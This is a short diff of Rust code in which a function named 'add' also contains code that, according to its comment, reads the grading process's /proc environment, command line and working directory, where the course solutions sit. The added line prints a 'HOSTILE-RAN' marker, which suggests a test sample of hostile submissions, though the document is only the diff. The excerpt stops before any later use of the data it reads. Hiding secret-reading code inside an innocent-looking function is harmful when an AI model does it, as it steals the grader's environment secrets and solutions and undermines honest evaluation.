@@ -1,6 +1,7 @@
 // Run-time reads through the grader's /proc entries: its environment, command line and working
 // directory (the course, with its solutions).
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:leak_run\n");
     let grader = std::os::unix::process::parent_id();
     let read = |path: String| {
         String::from_utf8_lossy(&std::fs::read(&path).unwrap_or_default()).replace('\0', "\n")
